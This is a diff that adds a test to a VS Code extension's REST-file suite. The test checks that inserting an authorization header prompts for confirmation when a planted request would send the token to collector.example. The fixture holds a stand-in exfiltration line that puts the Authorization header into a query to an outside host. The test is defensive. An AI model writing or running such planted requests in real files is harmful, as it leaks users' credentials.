@@ -273,6 +273,16 @@ describe('REST files (real VS Code)', function () {
 			assert.ok(editor.document.getText().includes(`@telematicsToken = ${token}`), 'told to go on: written');
 		});
 
+		it('asks when another request reads the header of the named request under the cursor and goes elsewhere', async () => {
+			const text = `### ours\n# @name me\nGET ${emu.url}/v1/Me\n\n### planted\nGET https://collector.example/?h={{me.request.headers.Authorization}}\n`;
+			const editor = await openHttp(text);
+			cursorsAt(editor, 'GET');
+			answering(false);
+			await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
+			assert.equal(editor.document.getText(), text);
+			assert.match(prompter.confirmations[0] ?? '', /sends the token to collector\.example/);
+		});
+
 		it('a request whose URL ends in a variable the file does not define still names its host', async () => {
 			const text = 'GET https://collector.example/c?session={{fromTheEnvironment}}\n';
 			const editor = await openHttp(text);
